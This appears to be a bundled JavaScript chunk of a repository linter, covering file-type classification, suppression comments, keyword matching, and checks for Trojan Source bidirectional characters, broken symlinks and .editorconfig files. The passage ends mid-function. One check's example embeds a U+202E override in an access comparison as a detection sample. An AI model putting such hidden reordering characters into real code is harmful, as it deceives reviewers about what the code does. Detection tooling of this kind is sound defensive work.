"use strict";
exports.id = 257;
exports.ids = [257];
exports.modules = {

/***/ 7689:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $: () => (/* binding */ isRegular),
/* harmony export */   K: () => (/* binding */ Mode)
/* harmony export */ });
const Mode = { file: 0o100644, executable: 0o100755, symlink: 0o120000, submodule: 0o160000 };
function isRegular(entry) {
    return entry.mode === Mode.file || entry.mode === Mode.executable;
}


/***/ }),

/***/ 4486:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   a: () => (/* binding */ firstKeywordFact),
/* harmony export */   d: () => (/* binding */ Fact)
/* harmony export */ });
const Fact = {
    trailingBlank: 1 << 0,
    crlf: 1 << 1,
    lf: 1 << 2,
    cr: 1 << 3,
    nonAscii: 1 << 4,
    conflict: 1 << 5,
    noFinalNewline: 1 << 6,
    extraFinalNewline: 1 << 7,
    byteOrderMark: 1 << 8,
    shebang: 1 << 9,
    executable: 1 << 10,
    tabIndent: 1 << 11,
    spaceIndent: 1 << 12,
    empty: 1 << 13,
};
const firstKeywordFact = 1 << 16;


/***/ }),

/***/ 4238:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  pt: () => (/* binding */ FileType),
  Ko: () => (/* binding */ fileTypes),
  rV: () => (/* binding */ unkempt)
});

;// CONCATENATED MODULE: ./lib/domain/folder-class.js
const Folder = {
    generated: 1 << 10,
    vendored: 1 << 11,
    fixture: 1 << 12,
    test: 1 << 13,
    built: 1 << 29,
    manual: 1 << 30,
};
const Part = {
    source: 1 << 14,
    data: 1 << 15,
    works: 1 << 16,
    trees: 1 << 17,
    resources: 1 << 18,
};
const { generated, vendored, fixture, test, built, manual } = Folder;
const inherited = generated | vendored | fixture | test | built | manual;
const names = [
    ['node_modules bower_components vendor vendored third_party third-party thirdparty .yarn', vendored],
    ['externallib externallibs external_lib external_libs external-lib external-libs', vendored],
    ['testdata test_data test-data testfiles test_files test-files testcases corpus', fixture],
    ['__snapshots__ snapshots golden goldens goldenfile goldenfiles golden_files golden-files', fixture],
    ['generated __generated__ autogen', generated],
    ['.idea .run .junit.run .settings', generated],
    ['__tests__', test],
    ['dist', built],
    ['man man1 man2 man3 man4 man5 man6 man7 man8', manual],
    ['src', Part.source],
    ['data assets dummy', Part.data],
    ['input inputs output outputs expected stub stubs', Part.works],
    ['in out', Part.trees],
    ['resources projects', Part.resources],
];
const byName = new Map(names.flatMap(([list, bits]) => list.split(' ').map((name) => [name, bits])));
byName.set('test data', fixture);
byName.set('test files', fixture);
const telling = /(?:[Ff]ixtures?|[Tt]ests?|\.in|\.out|\.xcodeproj)$|^generated[_-]/;
const patterns = [
    [/^[\w.-]*[Ff]ixtures?$/, fixture],
    [/^(?:.*[._ -])?[Tt]ests?$|^\w*[a-z]Tests?$/, test],
    [/^[\w-]+\.(?:in|out)$/, Part.trees],
    [/\.xcodeproj$|^generated[_-]\w+$/, generated],
];
const nameBits = new Map();
let lastFolder = '';
let lastClass = 0;
function folderClass(path) {
    const folder = path.slice(0, path.lastIndexOf('/') + 1);
    if (folder !== lastFolder) {
        lastFolder = folder;
        lastClass = classify(folder);
    }
    return lastClass;
}
function classify(folder) {
    let all = 0;
    let above = 0;
    let parent = 0;
    for (let start = 0, end = folder.indexOf('/'); end >= 0; start = end + 1, end = folder.indexOf('/', start)) {
        const own = bitsOf(folder.slice(start, end));
        if ((all & test) !== 0 && holdsTestData(own, parent, above, all))
            all |= fixture;
        all |= own & inherited;
        if ((all & test) !== 0)
            all |= own & Part.trees;
        above = parent;
        parent = own;
    }
    return all & inherited;
}
function holdsTestData(own, parent, above, all) {
    if ((own & Part.works) !== 0 || (all & Part.trees) !== 0)
        return true;
    if ((parent & test) === 0)
        return false;
    return (own & Part.data) !== 0 || ((own & Part.resources) !== 0 && (above & Part.source) !== 0);
}
function bitsOf(name) {
    let bits = nameBits.get(name);
    if (bits === undefined) {
        bits = byName.get(name) ?? (byName.get(name.toLowerCase()) ?? 0) & (vendored | fixture | generated);
        if (telling.test(name))
            for (const [pattern, one] of patterns)
                if (pattern.test(name))
                    bits |= one;
        nameBits.set(name, bits);
    }
    return bits;
}

;// CONCATENATED MODULE: ./lib/domain/file-type.js

const FileType = {
    json: 1 << 0,
    jsonc: 1 << 1,
    yaml: 1 << 2,
    toml: 1 << 3,
    xml: 1 << 4,
    notebook: 1 << 5,
    editorconfig: 1 << 6,
    markdown: 1 << 7,
    patch: 1 << 8,
    workflow: 1 << 9,
    generated: Folder.generated,
    vendored: Folder.vendored,
    fixture: Folder.fixture,
    test: Folder.test,
};
const unkempt = FileType.generated | FileType.vendored | FileType.fixture;
const data = 1 << 28;
const places = Folder.test | Folder.built | Folder.manual;
const known = ~(data | Folder.built | Folder.manual);
const { json, jsonc, yaml, toml, xml, notebook, editorconfig, markdown, patch, generated: file_type_generated } = FileType;
const byExtension = new Map([
    ['json', json],
    ['jsonc', jsonc],
    ['json5', 0],
    ['code-workspace', jsonc],
    ['webmanifest', json],
    ['geojson', json],
    ['topojson', json],
    ['jsonld', json],
    ['har', json],
    ['sarif', json],
    ['yaml', yaml],
    ['yml', yaml],
    ['toml', toml],
    ['xml', xml],
    ['svg', xml | file_type_generated],
    ['drawio', xml | file_type_generated],
    ['excalidraw', json | file_type_generated],
    ['xsd', xml],
    ['xsl', xml],
    ['xslt', xml],
    ['rng', xml],
    ['wsdl', xml],
    ['plist', xml],
    ['csproj', xml],
    ['vbproj', xml],
    ['fsproj', xml],
    ['vcxproj', xml],
    ['props', xml],
    ['targets', xml],
    ['nuspec', xml],
    ['resx', xml],
    ['xaml', xml],
    ['pom', xml],
    ['ipynb', notebook],
    ['md', markdown],
    ['markdown', markdown],
    ['mdx', markdown],
    ['patch', patch],
    ['diff', patch],
    ['rej', patch],
    ['snap', file_type_generated],
    ['map', json | file_type_generated],
    ['lock', file_type_generated],
    ['sln', file_type_generated],
    ['dotsettings', file_type_generated],
    ['api', file_type_generated],
]);
for (const extension of ('txt text log out stdout stderr output expected actual golden approved received ini cfg conf properties env csv tsv ' +
    'html htm xhtml css scss sass less styl vue svelte hbs handlebars mustache erb haml slim j2 jinja jinja2 tmpl tpl ' +
    'ejs pug twig liquid graphql gql rst adoc po pot srt vtt nfo eml pem crt cer key pub p8 dot tex gitignore hgignore dockerignore npmignore').split(' ')) {
    byExtension.set(extension, data);
}
const asData = json | jsonc | yaml | toml | xml | notebook | markdown | patch | data;
const noData = /(?:^|\/)(?:(?:readme|changelog|contributing)[^/]*|cmakelists\.txt|[^/]+(?:proj|\.props|\.targets))$/i;
const builtExtension = /\.(?:[cm]?js|css|html|map|d\.[cm]?ts)$/;
const manualPage = /\.[1-8]$/;
const file_type_byName = new Map([
    ['.editorconfig', editorconfig],
    ['.clang-format', yaml],
    ['.clang-tidy', yaml],
    ['.gemrc', yaml],
    ['citation.cff', yaml],
    ['.prettierrc', 0],
    ['.babelrc', 0],
    ['.babelrc.json', 0],
    ['babel.config.json', 0],
    ['.jshintrc', jsonc],
    ['.jscsrc', jsonc],
    ['.eslintrc.json', jsonc],
    ['.swcrc', jsonc],
    ['.hintrc', jsonc],
    ['.devcontainer.json', jsonc],
    ['devcontainer.json', jsonc],
    ['tslint.json', jsonc],
    ['api-extractor.json', jsonc],
    ['turbo.json', jsonc],
    ['angular.json', jsonc],
    ['.luarc.json', jsonc],
    ['language-configuration.json', jsonc],
    ['rush.json', jsonc],
    ['renovate.json', jsonc],
    ['.renovaterc', jsonc],
    ['.renovaterc.json', jsonc],
    ['.oxlintrc.json', jsonc],
    ['.markdownlint.json', jsonc],
    ['typedoc.json', jsonc],
    ['.cspell.json', jsonc],
    ['cspell.json', jsonc],
    ['pyrightconfig.json', jsonc],
    ['biome.json', jsonc],
    ['deno.json', jsonc],
    ['bun.lock', jsonc | file_type_generated],
    ['composer.lock', json | file_type_generated],
    ['flake.lock', json | file_type_generated],
    ['package-lock.json', json | file_type_generated],
    ['devcontainer-lock.json', json | file_type_generated],
    ['npm-shrinkwrap.json', json | file_type_generated],
    ['pipfile.lock', json | file_type_generated],
    ['pnpm-lock.yaml', yaml | file_type_generated],
    ['cargo.lock', toml | file_type_generated],
    ['poetry.lock', toml | file_type_generated],
    ['uv.lock', toml | file_type_generated],
    ['pdm.lock', toml | file_type_generated],
    ['pipfile', toml],
    ['go.sum', file_type_generated],
]);
const commentedConfig = /^(?:tsconfig|jsconfig)(?:[.-][^/]*)?\.json$/;
const commentedFolder = /(?:^|\/)\.(?:vscode|devcontainer)\/[^/]*\.json$/;
const workflowPath = /^(?:\.github\/workflows\/[^/]+|(?:.*\/)?action)\.ya?ml$/;
const minified = /[.-]min\.(?:js|mjs|cjs|css)$/;
function fileTypes(path) {
    const place = folderClass(path);
    const types = nameTypes(path) | place;
    return ((place & places) === 0 ? types : inPlace(path, types)) & known;
}
function inPlace(path, types) {
    const worked = (types & FileType.test) !== 0 && (types & asData) !== 0 && !noData.test(path) ? FileType.fixture : 0;
    const built = (types & Folder.built) !== 0 && builtExtension.test(path) ? file_type_generated : 0;
    const page = (types & Folder.manual) !== 0 && manualPage.test(path) ? file_type_generated : 0;
    return types | worked | built | page;
}
function nameTypes(path) {
    const name = path.slice(path.lastIndexOf('/') + 1).toLowerCase();
    const named = file_type_byName.get(name);
    if (named !== undefined)
        return named;
    const types = byExtension.get(name.slice(name.lastIndexOf('.') + 1)) ?? 0;
    if (types === json && (commentedConfig.test(name) || commentedFolder.test(path)))
        return jsonc;
    if (types === yaml && workflowPath.test(path))
        return yaml | FileType.workflow;
    if ((types & known) === 0 && minified.test(name))
        return file_type_generated;
    return types;
}


/***/ }),

/***/ 7478:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   BB: () => (/* binding */ dirName),
/* harmony export */   Fl: () => (/* binding */ baseName),
/* harmony export */   q0: () => (/* binding */ decodePath)
/* harmony export */ });
function decodePath(bytes) {
    const path = bytes.toString('utf8');
    if (!path.includes('\uFFFD') || Buffer.from(path, 'utf8').equals(bytes))
        return { path };
    return { path: quoteBytes(bytes), raw: Buffer.from(bytes) };
}
function quoteBytes(bytes) {
    let quoted = '"';
    for (const byte of bytes) {
        if (byte === 0x22 || byte === 0x5c)
            quoted += `\\${String.fromCharCode(byte)}`;
        else if (byte < 0x20 || byte > 0x7e)
            quoted += `\\${byte.toString(8).padStart(3, '0')}`;
        else
            quoted += String.fromCharCode(byte);
    }
    return `${quoted}"`;
}
function baseName(path) {
    return path.slice(path.lastIndexOf('/') + 1);
}
function dirName(path) {
    return path.slice(0, Math.max(0, path.lastIndexOf('/')));
}


/***/ }),

/***/ 8266:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Q: () => (/* binding */ parseSuppressions),
/* harmony export */   h: () => (/* binding */ covers)
/* harmony export */ });
const inCode = /(?:#|\/\/|\/\*|^[ \t]*\*|<!--|--|;|%|\(\*|\{-|'(?=[ \t]))[ \t]*kempt-ignore(-file)?(?![\w-])[ \t]*([^\n]*)/;
const inMarkdown = /<!--[ \t]*kempt-ignore(-file)?(?![\w-])[ \t]*([^\n]*)/;
const commentEnd = /[ \t]*(?:\*\/|-->|\*\)|-\})?[ \t\r]*$/;
function parseSuppressions(text, markdown) {
    const pattern = markdown ? inMarkdown : inCode;
    const found = [];
    let start = 0;
    text.split('\n').forEach((content, line) => {
        const match = content.includes('kempt-ignore') ? pattern.exec(content) : null;
        if (match)
            found.push(toComment(match, content, line, start));
        start += content.length + 1;
    });
    return found;
}
function toComment(match, content, line, start) {
    const [whole, file, rest = ''] = match;
    const body = rest.replace(commentEnd, '');
    const colon = body.indexOf(':');
    const names = colon < 0 ? body : body.slice(0, colon);
    const rules = names.split(/[\s,]+/).filter((name) => /^[a-z][a-z0-9-]*(?:\/[a-z0-9-]+)?$/.test(name));
    const directive = whole.indexOf('kempt-ignore');
    const alone = content.slice(0, match.index).trim() === '';
    const next = alone ? line + 1 : line;
    return {
        rules,
        reason: colon < 0 ? '' : body.slice(colon + 1).trim(),
        ...(file === undefined && { lines: [line, next] }),
        at: { offset: start + match.index + directive, length: whole.length - directive - (rest.length - body.length) },
        line,
    };
}
function covers(comment, rule, line) {
    const named = comment.rules.some((name) => name === rule || rule.startsWith(`${name}/`));
    if (!named || comment.lines === undefined)
        return named;
    return line !== undefined && line >= comment.lines[0] && line <= comment.lines[1];
}


/***/ }),

/***/ 8342:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Q: () => (/* binding */ compileKeywords)
/* harmony export */ });
const widestStep = 7;
const groupsByNext = 11;
function compileKeywords(words) {
    const patterns = words.map(toPattern);
    const step = patterns.reduce((least, { bytes }) => Math.min(least, bytes.length - 1), widestStep);
    const groupsOfPair = new Uint16Array(65536);
    const groupsOfNext = new Uint16Array(256);
    const groupsOfLast = new Uint16Array(256);
    const buckets = [];
    const bucketOf = new Uint16Array(65536);
    for (const pattern of patterns) {
        const from = rarestPairs(pattern.bytes, step);
        for (let at = from; at < from + step; at++) {
            const group = groupOf(pattern, at);
            for (const pair of pairsAt(pattern, at)) {
                if (groupsOfPair[pair] === 0)
                    bucketOf[pair] = buckets.push([]) - 1;
                groupsOfPair[pair] = groupsOfPair[pair] | group;
                buckets[bucketOf[pair]].push({ pattern, back: at + 1, group });
            }
            allow(groupsOfNext, pattern, at + 2, group);
            allow(groupsOfLast, pattern, at - 1, group);
        }
    }
    const find = (buffer, length, hit) => {
        const ofPair = groupsOfPair;
        const ofNext = groupsOfNext;
        const ofLast = groupsOfLast;
        const inner = length - 1;
        for (let end = step; end < length; end += step) {
            const pair = (buffer[end - 1] << 8) | buffer[end];
            let groups = ofPair[pair];
            if (end < inner && end > 1)
                groups &= ofNext[buffer[end + 1]] & ofLast[buffer[end - 2]];
            if (groups === 0)
                continue;
            const bucket = buckets[bucketOf[pair]];
            for (let i = 0; i < bucket.length; i++) {
                const { pattern, back, group } = bucket[i];
                if ((group & groups) === 0)
                    continue;
                const start = end - back;
                if (standsAt(pattern, buffer, start, length) && hit(pattern.word, start))
                    return true;
            }
        }
        return false;
    };
    return {
        scan(buffer, length, hit) {
            find(buffer, length, (word, offset) => {
                hit(word, offset);
                return false;
            });
        },
        has: (buffer, length) => find(buffer, length, () => true),
    };
}
function groupOf({ bytes }, at) {
    const next = bytes[at + 2];
    if (next !== undefined)
        return 1 << (next % groupsByNext);
    return 1 << (groupsByNext + ((bytes[at - 1] ?? 0) % (16 - groupsByNext)));
}
function allow(groups, { bytes, ignoreCase }, at, group) {
    const byte = bytes[at];
    if (byte === undefined) {
        if (groups[0] & group)
            return;
        for (let any = 0; any < 256; any++)
            groups[any] = groups[any] | group;
        return;
    }
    groups[byte] = groups[byte] | group;
    if (ignoreCase)
        groups[toUpper(byte)] = groups[toUpper(byte)] | group;
}
function toPattern({ text, ignoreCase = false }, word) {
    const bytes = new Uint8Array(text.length);
    for (let i = 0; i < text.length; i++) {
        const code = text.charCodeAt(i);
        if (code > 0x7f)
            throw new Error(`A keyword must be ASCII: ${text}`);
        bytes[i] = ignoreCase ? toLower(code) : code;
    }
    if (bytes.length < 2)
        throw new Error(`A keyword must have at least two characters: ${text}`);
    return { word, bytes, ignoreCase };
}
function standsAt({ bytes, ignoreCase }, buffer, start, length) {
    if (start < 0 || start + bytes.length > length)
        return false;
    for (let i = 0; i < bytes.length; i++) {
        const byte = buffer[start + i];
        if (byte !== bytes[i] && !(ignoreCase && toLower(byte) === bytes[i]))
            return false;
    }
    return true;
}
function pairsAt({ bytes, ignoreCase }, at) {
    const first = bytes[at];
    const second = bytes[at + 1];
    if (!ignoreCase)
        return [(first << 8) | second];
    const other = toUpper(first);
    const otherSecond = toUpper(second);
    return [
        (first << 8) | second,
        ...(other === first ? [] : [(other << 8) | second]),
        ...(otherSecond === second ? [] : [(first << 8) | otherSecond]),
        ...(other === first || otherSecond === second ? [] : [(other << 8) | otherSecond]),
    ];
}
function toLower(byte) {
    return byte >= 0x41 && byte <= 0x5a ? byte | 0x20 : byte;
}
function toUpper(byte) {
    return byte >= 0x61 && byte <= 0x7a ? byte & 0xdf : byte;
}
function rarestPairs(bytes, count) {
    let best = 0;
    let least = Number.POSITIVE_INFINITY;
    let sum = 0;
    for (let at = 0; at + 1 < bytes.length; at++) {
        sum += commonness[bytes[at]] * commonness[bytes[at + 1]];
        const from = at - count + 1;
        if (from < 0)
            continue;
        if (sum < least) {
            least = sum;
            best = from;
        }
        sum -= commonness[bytes[from]] * commonness[bytes[from + 1]];
    }
    return best;
}
const commonness = new Uint8Array(256).fill(3);
const fromRare = '-._zqxjkvbywgpfmuhdlcsrnoiate ';
for (let rank = 0; rank < fromRare.length; rank++)
    commonness[fromRare.charCodeAt(rank)] = 4 + rank;


/***/ }),

/***/ 1257:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  A: () => (/* binding */ checks)
});

// EXTERNAL MODULE: ./lib/domain/facts.js
var facts = __webpack_require__(4486);
// EXTERNAL MODULE: ./lib/domain/file-type.js + 1 modules
var file_type = __webpack_require__(4238);
;// CONCATENATED MODULE: ./lib/modules/checks/check.js
function fileCheck(check) {
    return check;
}
function treeCheck(check) {
    return check;
}
function changeCheck(check) {
    return check;
}

;// CONCATENATED MODULE: ./lib/modules/checks/bidirectional-control.js



const bidirectionalControl = fileCheck({
    id: 'bidirectional-control',
    scope: 'file',
    summary: 'Characters that make code read differently from how it runs (Trojan Source)',
    level: 'error',
    facts: facts/* Fact */.d.nonAscii,
    except: file_type/* FileType */.pt.generated,
    source: 'https://www.unicode.org/reports/tr55/#Bidirectional-Ordering',
    docs: `Embeddings, overrides and isolates reorder what is shown of a line, so that a comment may look like code and the
other way round (CVE-2021-42574). They are reported where a line leaves one open, or has an override; text in
right-to-left scripts needs none of them. The marks U+200E and U+200F, which reorder nothing, are left alone, and so are
isolates and embeddings that are closed on their line in Markdown and other prose.`,
    examples: [
        { title: 'An override', files: { 'a.js': 'if (access !== "user\u202e") {\n}\n' }, findings: ['a.js:1'] },
        { title: 'Hebrew', files: { 'a.js': 'const name = "\u05e9\u05dc\u05d5\u05dd";\n' }, findings: [] },
    ],
    run(file, report) {
        if (!mayHaveControls(file.buffer, file.length))
            return;
        const prose = (file.types & file_type/* FileType */.pt.markdown) !== 0 || /\.(?:txt|rst|adoc|po|html?)$/i.test(file.path);
        for (let line = 0; line < file.lineStarts().length; line++) {
            const text = file.line(line);
            const match = controls.exec(text);
            if (match === null || (prose && isBalanced(text)))
                continue;
            report({
                message: `The character ${bidirectional_control_name(match[0])} reorders what is shown of this line`,
                at: { offset: file.lineStarts()[line] + Buffer.byteLength(text.slice(0, match.index)), length: 3 },
                snippet: text.replace(new RegExp(controls, 'g'), (control) => `<${bidirectional_control_name(control)}>`),
            });
        }
    },
});
function mayHaveControls(buffer, length) {
    for (let i = buffer.indexOf(0xe2); i >= 0 && i + 2 < length; i = buffer.indexOf(0xe2, i + 1)) {
        const last = buffer[i + 2];
        if (buffer[i + 1] === 0x80 && last >= 0xaa && last <= 0xae)
            return true;
        if (buffer[i + 1] === 0x81 && last >= 0xa6 && last <= 0xa9)
            return true;
    }
    return false;
}
const controls = /[\u202a-\u202e\u2066-\u2069]/;
function bidirectional_control_name(character) {
    return `U+${character.charCodeAt(0).toString(16).toUpperCase()}`;
}
function isBalanced(text) {
    if (/[\u202d\u202e]/.test(text))
        return false;
    const open = [];
    for (const control of text.match(new RegExp(controls, 'g')) ?? []) {
        if (control === '\u202c' || control === '\u2069') {
            if (open.pop() !== control)
                return false;
        }
        else {
            open.push(control >= '\u2066' ? '\u2069' : '\u202c');
        }
    }
    return open.length === 0;
}

// EXTERNAL MODULE: ./lib/domain/entry.js
var domain_entry = __webpack_require__(7689);
// EXTERNAL MODULE: ./lib/domain/path.js
var domain_path = __webpack_require__(7478);
;// CONCATENATED MODULE: ./lib/modules/checks/broken-symlink.js



const brokenSymlink = treeCheck({
    id: 'broken-symlink',
    scope: 'tree',
    summary: 'Symbolic links that lead nowhere',
    level: 'error',
    docs: `The target of the link does not exist, or the link leads to itself. A link to an absolute path, or out of the
repository, works on one machine only and is reported too.`,
    examples: [
        {
            title: 'A target that is gone',
            files: {
                'a.txt': 'x\n',
                'folder/good': { content: '../a.txt', mode: 0o120000 },
                bad: { content: 'b.txt', mode: 0o120000 },
            },
            findings: ['bad'],
        },
        {
            title: 'A link to a folder',
            files: { 'folder/a': 'x\n', link: { content: 'folder', mode: 0o120000 } },
            findings: [],
        },
        { title: 'Out of the repository', files: { out: { content: '/etc/hosts', mode: 0o120000 } }, findings: ['out'] },
    ],
    run(tree, report) {
        for (const entry of tree.candidates) {
            const target = entry.mode === domain_entry/* Mode */.K.symlink ? tree.linkTarget(entry) : undefined;
            if (target === undefined)
                continue;
            const message = problemOf(target, entry.path, (path) => tree.exists(path));
            if (message !== undefined)
                report(entry.path, { message });
        }
    },
});
function problemOf(target, path, exists) {
    const shown = JSON.stringify(target);
    if (/^(?:[\\/]|[A-Za-z]:)/.test(target))
        return `The link leads to the absolute path ${shown}`;
    if (climbsOut(target, (0,domain_path/* dirName */.BB)(path)))
        return `The link leads out of the repository, to ${shown}`;
    return exists(path === '' ? target : `${(0,domain_path/* dirName */.BB)(path) || '.'}/${target}`)
        ? undefined
        : `The link leads to ${shown}, which does not exist`;
}
function climbsOut(target, folder) {
    let depth = folder === '' ? 0 : folder.split('/').length;
    for (const part of target.split('/')) {
        if (part === '..')
            depth--;
        else if (part !== '.' && part !== '')
            depth++;
        if (depth < 0)
            return true;
    }
    return false;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/editorconfig-properties.js
const values = new Map([
    ['indent_style', { pattern: /^(?:tab|space)$/, expected: 'tab or space' }],
    ['indent_size', { pattern: /^(?:tab|0*[1-9]\d*)$/, expected: 'a positive number or tab' }],
    ['tab_width', { pattern: /^0*[1-9]\d*$/, expected: 'a positive number' }],
    ['end_of_line', { pattern: /^(?:lf|cr|crlf)$/, expected: 'lf, crlf or cr' }],
    [
        'charset',
        {
            pattern: /^(?:latin1|utf-8|utf-8-bom|utf-16be|utf-16le)$/,
            expected: 'latin1, utf-8, utf-8-bom, utf-16be or utf-16le',
        },
    ],
    ['trim_trailing_whitespace', { pattern: /^(?:true|false)$/, expected: 'true or false' }],
    ['insert_final_newline', { pattern: /^(?:true|false)$/, expected: 'true or false' }],
    ['root', { pattern: /^(?:true|false)$/, expected: 'true or false' }],
]);
const lowerCaseValues = new Set(values.keys());
function propertyProblem(name, value, isInSection) {
    if (name === 'root' && isInSection)
        return 'root has no effect in a section; it belongs before the first';
    if (name !== 'root' && !isInSection)
        return `${name} has no effect before the first section`;
    const rule = values.get(name);
    if (!rule || rule.pattern.test(value) || (value === 'unset' && name !== 'root'))
        return undefined;
    return `${name} must be ${rule.expected}${value === '' ? '' : `, not ${value}`}`;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/editorconfig.js

function parseEditorconfig(text) {
    const sections = [];
    const problems = [];
    let root = false;
    const lines = text.replace(/^\u{feff}/u, '').split(/\r\n|\n|\r/);
    for (const [line, source] of lines.entries()) {
        const entry = parseLine(source.trim());
        if (entry === undefined)
            continue;
        if (entry.kind === 'section')
            sections.push({ glob: entry.glob, properties: {} });
        else if (entry.kind === 'unknown')
            problems.push({ message: entry.message, line });
        else {
            const section = sections.at(-1);
            const message = propertyProblem(entry.name, entry.value, section !== undefined);
            if (message)
                problems.push({ message, line });
            else if (section)
                section.properties[entry.name] = entry.value;
            else
                root = entry.value === 'true';
        }
    }
    return { root, sections, problems };
}
function parseLine(line) {
    if (line === '' || line.startsWith('#') || line.startsWith(';'))
        return undefined;
    const content = line.replace(/\s+[#;].*$/, '');
    if (content.startsWith('[')) {
        if (content.endsWith(']') && content.length > 2)
            return { kind: 'section', glob: content.slice(1, -1) };
        return {
            kind: 'unknown',
            message: content === '[]' ? 'A section needs a pattern' : 'Expected ] at the end of the section header',
        };
    }
    const separator = content.indexOf('=');
    const name = content.slice(0, separator).trim().toLowerCase();
    if (separator < 0 || name === '')
        return { kind: 'unknown', message: 'Expected a comment, a [section] or name = value' };
    const value = content.slice(separator + 1).trim();
    return { kind: 'property', name, value: lowerCaseValues.has(name) ? value.toLowerCase() : value };
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/editorconfig-glob.js
function editorconfigMatcher(glob) {
    const { source, ranges } = translate(anchored(glob));
    const pattern = new RegExp(`^${source}$`, 'su');
    return (path) => {
        const match = pattern.exec(path);
        return match?.slice(1).every((text, i) => text === undefined || isWithin(Number(text), ranges[i])) ?? false;
    };
}
function isWithin(value, [low, high]) {
    return value >= low && value <= high;
}
function anchored(glob) {
    if (!glob.includes('/'))
        return `**/${glob}`;
    return glob.startsWith('/') ? glob.slice(1) : glob;
}
function translate(glob) {
    const ranges = [];
    const braces = pairedBraces(glob);
    const open = [];
    let source = '';
    for (let i = 0; i < glob.length; i++) {
        const c = glob[i];
        const rest = glob.slice(i);
        const set = c === '[' ? /^\[(!?)((?:\\[^/]|[^\]\\/])+)\]/.exec(rest) : null;
        const range = c === '{' ? /^\{([+-]?\d+)\.\.([+-]?\d+)\}/.exec(rest) : null;
        if (c === '\\' && i + 1 < glob.length) {
            source += literal(glob[++i]);
        }
        else if (i === 0 && rest.startsWith('**/')) {
            source += '(?:.*/)?';
            i += 2;
        }
        else if (rest.startsWith('/**/')) {
            source += '/(?:.*/)?';
            i += 3;
        }
        else if (c === '*') {
            source += rest.startsWith('**') ? '.*' : '[^/]*';
            if (rest.startsWith('**'))
                i++;
        }
        else if (c === '?') {
            source += '[^/]';
        }
        else if (set) {
            source += `(?![/])[${set[1] ? '^' : ''}${setMembers(set[2])}]`;
            i += set[0].length - 1;
        }
        else if (range) {
            const ends = [Number(range[1]), Number(range[2])];
            ranges.push([Math.min(...ends), Math.max(...ends)]);
            source += '([+-]?(?:0|[1-9]\\d*))';
            i += range[0].length - 1;
        }
        else if (c === '{' && braces.has(i)) {
            open.push(braces.get(i));
            source += '(?:';
        }
        else if (open.at(-1) === i) {
            open.pop();
            source += ')';
        }
        else {
            source += c === ',' && open.length > 0 ? '|' : literal(c);
        }
    }
    return { source, ranges };
}
function pairedBraces(glob) {
    const pairs = new Map();
    const open = [];
    for (let i = 0; i < glob.length; i++) {
        const c = glob[i];
        if (c === '\\')
            i++;
        else if (c === '{')
            open.push({ at: i, hasComma: false });
        else if (c === ',' && open.length > 0)
            open.at(-1).hasComma = true;
        else if (c === '}') {
            const pair = open.pop();
            if (pair?.hasComma)
                pairs.set(pair.at, i);
        }
    }
    return pairs;
}
function literal(c) {
    return /[\\^$.*+?()[\]{}|/]/.test(c) ? `\\${c}` : c;
}
function setMembers(members) {
    return members.replace(/\\(.)|([[\]^&~|])/gsu, (_, escaped, special) => {
        const c = escaped ?? special;
        return /[\\\][^\-/]/.test(c) ? `\\${c}` : c;
    });
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/editorconfig-resolve.js

const matchers = new Map();
function resolveEditorconfig(files, path) {
    const properties = {};
    for (const { dir, config } of applicable(files, path)) {
        const relative = dir === '' ? path : path.slice(dir.length + 1);
        for (const section of config.sections) {
            if (matcher(section.glob)(relative))
                Object.assign(properties, section.properties);
        }
    }
    return completed(properties);
}
function applicable(files, path) {
    const above = files
        .filter(({ dir }) => dir === '' || path.startsWith(`${dir}/`))
        .sort((a, b) => a.dir.length - b.dir.length);
    return above.slice(Math.max(0, above.findLastIndex(({ config }) => config.root)));
}
function matcher(glob) {
    let found = matchers.get(glob);
    if (!found) {
        found = editorconfigMatcher(glob);
        matchers.set(glob, found);
    }
    return found;
}
function completed(properties) {
    const set = Object.fromEntries(Object.entries(properties).filter(([, value]) => value !== 'unset'));
    const { indent_style: style, tab_width: width } = set;
    let size = set['indent_size'];
    if (size === undefined && style === 'tab')
        size = 'tab';
    if (size === 'tab' && width !== undefined)
        size = width;
    if (size !== undefined)
        set['indent_size'] = size;
    if (size !== undefined && size !== 'tab' && width === undefined)
        set['tab_width'] = size;
    return set;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/editorconfig-above.js



const parsed = new Map();
function propertiesFor(path, read) {
    const files = [];
    for (let dir = (0,domain_path/* dirName */.BB)(path);; dir = (0,domain_path/* dirName */.BB)(dir)) {
        const text = read(dir === '' ? '.editorconfig' : `${dir}/.editorconfig`);
        if (text !== undefined)
            files.push({ dir, config: parse(text) });
        if (dir === '')
            return files.length === 0 ? {} : resolveEditorconfig(files, path);
    }
}
function parse(text) {
    let config = parsed.get(text);
    if (config === undefined) {
        config = parseEditorconfig(text);
        parsed.set(text, config);
    }
    return config;
}

;// CONCATENATED MODULE: ./lib/modules/checks/text/prettierignore.js

const prettierignore_parsed = new Map();
function isPrettierIgnored(path, read) {
    for (let dir = (0,domain_path/* dirName */.BB)(path);; dir = (0,domain_path/* dirName */.BB)(dir)) {
        const text = read(dir === '' ? '.prettierignore' : `${dir}/.prettierignore`);
        if (text !== undefined && ignores(patternsOf(text), dir === '' ? path : path.slice(dir.length + 1)))
            return true;
        if (dir === '')
            return false;
    }
}
function ignores(patterns, path) {
    for (let end = path.indexOf('/');; end = path.indexOf('/', end + 1)) {
        const folder = end >= 0;
        const part = folder ? path.slice(0, end) : path;
